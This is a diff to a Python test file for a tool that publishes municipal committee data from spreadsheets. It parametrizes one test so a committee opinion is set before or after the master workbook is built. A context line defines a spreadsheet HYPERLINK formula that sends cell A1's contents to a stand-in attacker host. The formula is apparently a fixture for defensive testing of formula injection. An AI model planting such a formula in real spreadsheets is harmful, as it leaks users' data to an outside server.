@@ -18,6 +18,7 @@ from kosei_xl.values.fields import EntryField
 from kosei_xl.values.model import EntriesFile, PlanFile
 from kosei_xl.values.refusals import WrongCall
 from kosei_xl.verbs import publish
+from kosei_xl.words import terms
 from tests.tools.office import kosei
 from tests.tools.published import (
     DAY,
@@ -33,6 +34,7 @@ from tests.tools.published import (
     table,
     with_texts,
 )
+from tests.tools.sheets import write
 
 ADDRESS = "https://www.city.midorigahara.example/gyokaku/R7/index.html?page=1&lang=ja#main"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"開く")'
@@ -154,7 +156,9 @@ def test_committee__counts_and_change__as_on_the_page(folder: Path) -> None:
         assert "".join(row["要因"].split())[:10] in seen(card)
 
 
-def test_committee__what_it_wrote_last_time__beside_what_came_of_it(tmp_path: Path) -> None:
+@pytest.mark.parametrize("when", ["before", "after"])
+def test_committee__what_it_wrote_last_time__beside_what_came_of_it(tmp_path: Path, when: str) -> None:
+    """Mostly it writes about a point when its papers are out and the point is closed."""
     plan, entries = sample_with_amounts()
     field = EntryField(field="opinion", label="委員会の意見", type="text", filled_by="committee")
     shown = next(one for one in plan.plan.columns if one.source == "entry" and one.part == "list")
@@ -163,7 +167,7 @@ def test_committee__what_it_wrote_last_time__beside_what_came_of_it(tmp_path: Pa
     own = {"fields": (*plan.plan.fields, field), "columns": (*plan.plan.columns, column)}
     asked = tuple(
         one.model_copy(update={"fields": {**one.fields, "opinion": "窓口の人手は足りるか。"}})
-        if (one.item_key, one.sub_no, one.point) == ("m-001", "", HALF)
+        if (one.item_key, one.sub_no, one.point) == ("m-001", "", HALF) and when == "before"
         else one
         for one in entries.entries
     )
@@ -171,7 +175,10 @@ def test_committee__what_it_wrote_last_time__beside_what_came_of_it(tmp_path: Pa
         PlanFile(plan=type(plan.plan).model_validate({**fields, **own})),
         EntriesFile(plan_id=plan.plan.plan_id, entries=asked),
     )
-    published(master_of(tmp_path, made), tmp_path / "公表", draft=True)
+    master = master_of(tmp_path, made)
+    if when == "after":
+        write(master, terms.LEDGER_SHEET, f"{HALF}|m-001|", {"opinion": "窓口の人手は足りるか。"})
+    published(master, tmp_path / "公表", draft=True)
     assert problems_of(tmp_path / "公表") == []
     (card,) = sheet(tmp_path / "公表", "committee.html").xpath(
         "//h2[contains(., '前回の委員会の意見')]/following-sibling::section[not(contains(@class, 'late'))]"
